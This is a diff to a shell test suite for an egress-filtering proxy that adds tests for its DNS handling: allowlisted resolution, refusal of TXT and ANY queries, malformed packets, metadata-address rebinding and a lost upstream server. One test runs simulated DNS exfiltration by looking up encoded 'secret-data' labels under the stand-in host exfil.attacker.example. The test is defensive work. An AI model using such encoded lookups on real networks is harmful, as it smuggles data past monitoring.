@@ -16,12 +16,13 @@ TPORT=15001
 DPORT=5353
 
 lab_preflight
-tap_plan 49
+tap_plan 59
 
 PROXYD_PID=""
 cleanup() {
 	[ -n "$PROXYD_PID" ] && kill -KILL "$PROXYD_PID" 2>/dev/null
 	[ -n "$PROXYD_PID" ] && wait "$PROXYD_PID" 2>/dev/null
+	[ -n "${P:-}" ] && rm -rf "/etc/netns/${P}s1"
 	if [ -n "${P:-}" ]; then
 		"$NETNS_TOOL" teardown --appliance "$LAB_NS" --name "$S1" --host-if "${P}h1" >/dev/null 2>&1
 		"$NETNS_TOOL" teardown --appliance "$LAB_NS" --name "$S2" --host-if "${P}h2" >/dev/null 2>&1
@@ -67,6 +68,10 @@ lab_exec lab "$RULES_TOOL" init --ipv6 --tproxy-port $TPORT --dns-port $DPORT >/
 	lab_exec lab "$RULES_TOOL" add --ipv6 --if "${P}h3" --mark 3 --addr "$A3" --addr6 "$S6" >/dev/null ||
 	tap_bail "rules-tool failed"
 
+# Sessions resolve through "the lab's DNS server"; nft redirects every
+# query to the proxy, which is what answers.
+mkdir -p "/etc/netns/${P}s1" && echo "nameserver $LAB_DNS" >"/etc/netns/${P}s1/resolv.conf"
+
 CONF=$LAB_DIR/proxyd.conf
 EVENTS=$LAB_DIR/proxyd-events.log
 write_conf() { # $1: extra allow patterns for s1
@@ -75,6 +80,7 @@ transparent_listen 0.0.0.0:$TPORT
 transparent_listen [::]:$TPORT
 explicit_listen 198.18.0.1:3128
 metrics_listen 127.0.0.1:9464
+dns_listen 0.0.0.0:$DPORT
 event_log $EVENTS
 user nobody
 control_socket $LAB_DIR/proxyd.sock
@@ -237,6 +243,102 @@ done
 tap_ok $bad "request-smuggling shapes (CL+TE, two Hosts, obs-fold, two CLs, space before colon, bare LF) get 400"
 out=$(raw 198.18.1.10 80 'POST / HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n\r\n')
 tap_ok "$(echo "$out" | grep -q '^HTTP/1.1 400'; echo $?)" "bad chunking after an allowed head gets 400"
+
+# DNS for sessions: answered by the proxy, only allowed names go upstream.
+cat >"$LAB_DIR/dnsq.py" <<'PY'
+import os, socket, struct, sys
+name, qtype, tcp = sys.argv[1], int(sys.argv[2]), sys.argv[3] == "tcp"
+raw = bytes.fromhex(sys.argv[4]) if len(sys.argv) > 4 else None
+qid = struct.unpack("!H", os.urandom(2))[0]
+if raw is not None:
+    q = raw
+else:
+    q = struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0)
+    for label in name.split("."):
+        q += bytes([len(label)]) + label.encode()
+    q += b"\0" + struct.pack("!HH", qtype, 1)
+if tcp:
+    s = socket.create_connection(("198.18.0.2", 53), timeout=5)
+    s.sendall(struct.pack("!H", len(q)) + q)
+    n = struct.unpack("!H", s.recv(2))[0]
+    resp = b""
+    while len(resp) < n:
+        resp += s.recv(n - len(resp))
+else:
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.settimeout(3)
+    s.sendto(q, ("198.18.0.2", 53))
+    try:
+        resp = s.recv(4096)
+    except socket.timeout:
+        print("TIMEOUT"); sys.exit(0)
+rc = resp[3] & 0xF
+names = {0: "NOERROR", 1: "FORMERR", 2: "SERVFAIL", 3: "NXDOMAIN", 4: "NOTIMP", 5: "REFUSED"}
+an = struct.unpack("!H", resp[6:8])[0]
+addrs = []
+if an and rc == 0:
+    off = 12
+    while resp[off] != 0: off += resp[off] + 1
+    off += 5
+    for _ in range(an):
+        off += 2
+        t, c, ttl, ln = struct.unpack("!HHIH", resp[off:off + 10]); off += 10
+        if t == 1: addrs.append(socket.inet_ntoa(resp[off:off + 4]))
+        off += ln
+print(" ".join([names.get(rc, str(rc))] + addrs))
+PY
+dnsq() { s1 python3 "$LAB_DIR/dnsq.py" "$@" 2>&1; }
+upstream() { grep -c "query\[.*\] $1 from" "$LAB_DNSMASQ_LOG"; }
+
+out=$(s1 getent ahostsv4 allowed.test | awk '{ print $1 }' | sort -u)
+tap_ok "$([ "$out" = 198.18.1.10 ] && grep -q "query\[A\] allowed.test from 198.18.0.1" "$LAB_DNSMASQ_LOG"; echo $?)" \
+	"DNS: getaddrinfo(allowed.test) in a session is answered by the proxy, which asked upstream itself ($out)"
+before=$(upstream other.test)
+out=$(s1 python3 -c 'import socket
+try:
+    socket.getaddrinfo("other.test", 80); print("resolved")
+except socket.gaierror as e:
+    print("failed", e.errno)')
+tap_ok "$([ "$out" = "failed -2" ] && [ "$(upstream other.test)" -eq "$before" ]; echo $?)" \
+	"DNS: a name not allowed gets NXDOMAIN and is never sent upstream ($out)"
+s1 python3 -c 'import socket
+for i in range(5):
+    try: socket.getaddrinfo("c2VjcmV0LWRhdGEtJWQ%d.exfil.attacker.example" % i, 80)
+    except socket.gaierror: pass'
+sleep 2.5
+tap_ok "$([ "$(upstream '.*exfil.attacker.example')" -eq 0 ] &&
+	[ "$(ev proto=dns type=egress_denied reason=not_allowlisted)" -ge 5 ]; echo $?)" \
+	"DNS exfiltration: 5 encoded lookups are denied and none reached inet's DNS server"
+s1 python3 -c 'import socket
+try: socket.getaddrinfo("exfil.attacker.example", 80)
+except socket.gaierror: pass'
+sleep 2.5
+lines=$(grep -c '"host":"exfil.attacker.example"' "$EVENTS")
+tap_ok "$([ "$lines" -eq 1 ] && [ "$(ev host=exfil.attacker.example)" -eq 1 ]; echo $?)" \
+	"DNS: one getaddrinfo (A and AAAA) for exfil.attacker.example is exactly one egress_denied ($lines)"
+out=$(dnsq allowed.test 16 udp)
+tap_ok "$([ "$out" = REFUSED ] && [ "$(grep -c 'query\[TXT\]' "$LAB_DNSMASQ_LOG")" -eq 0 ] &&
+	[ "$(ev proto=dns reason=dns_type_refused host=allowed.test)" -ge 1 ]; echo $?)" \
+	"DNS: TXT for an allowed name is refused without an upstream query ($out)"
+out1=$(dnsq allowed.test 255 udp)
+out2=$(dnsq x 1 udp 6761726261676521000000000000ff)
+out3=$(dnsq x 1 udp 123401000002000000000000)
+tap_ok "$([ "$out1" = REFUSED ] && { [ "$out2" = FORMERR ] || [ "$out2" = NOTIMP ]; } &&
+	[ "$out3" = FORMERR ]; echo $?)" \
+	"DNS: ANY refused ($out1); garbage ($out2) and a lying QDCOUNT ($out3) get an error, not a crash"
+out=$(dnsq allowed.test 1 tcp)
+tap_ok "$([ "$out" = "NOERROR 198.18.1.10" ]; echo $?)" "DNS over TCP is answered the same way ($out)"
+out=$(dnsq rebind.test 1 udp)
+tap_ok "$([ "$out" = REFUSED ] && [ "$(ev proto=dns reason=resolves_to_blocked host=rebind.test)" -ge 1 ]; echo $?)" \
+	"DNS: rebind.test (answers 169.254.169.254) is refused: resolves_to_blocked ($out)"
+out=$(dnsq api.allowed.test 1 udp)
+s1 python3 -c 'import socket, time
+s = socket.create_connection(("198.18.1.12", 443), timeout=5)
+time.sleep(0.6); s.close()'
+sleep 0.3
+tap_ok "$([ "$out" = "NOERROR 198.18.1.12" ] &&
+	[ "$(ev type=egress_allowed proto=tcp host=198.18.1.12 port=443)" -ge 1 ]; echo $?)" \
+	"DNS answers become the proxy's own: raw TCP to api.allowed.test's answer on 443 is allowed"
 
 # 14-21: explicit proxy mode. A session's proxy-aware client dials its
 # gateway (nft redirects it to the proxy like everything else); lab-local
@@ -454,6 +556,13 @@ tap_ok "$([ "$(access_count)" -eq "$inet_before" ]; echo $?)" "and nothing reach
 start_proxyd
 out=$(s1 $CURL --resolve allowed.test:80:198.18.1.10 http://allowed.test/ 2>&1)
 tap_ok "$([ "$out" = "hello from allowed.test" ]; echo $?)" "a restarted proxyd serves again"
+
+# Upstream DNS gone: SERVFAIL, counted as a resolver error, not a denial.
+kill -TERM "$(lab_pids | head -1)" 2>/dev/null	# dnsmasq, ours
+out=$(dnsq api.allowed.test 1 udp)
+tap_ok "$([ "$out" = SERVFAIL ] || [ "$out" = TIMEOUT ]; [ "$out" = SERVFAIL ] &&
+	[ "$(ev host=api.allowed.test type=egress_denied)" -eq 0 ]; echo $?)" \
+	"DNS: with the upstream server gone the answer is SERVFAIL, not a policy denial ($out)"
 
 # 37: SIGTERM drains and exits 0; under ASan this is where leaks show.
 kill -TERM "$PROXYD_PID"
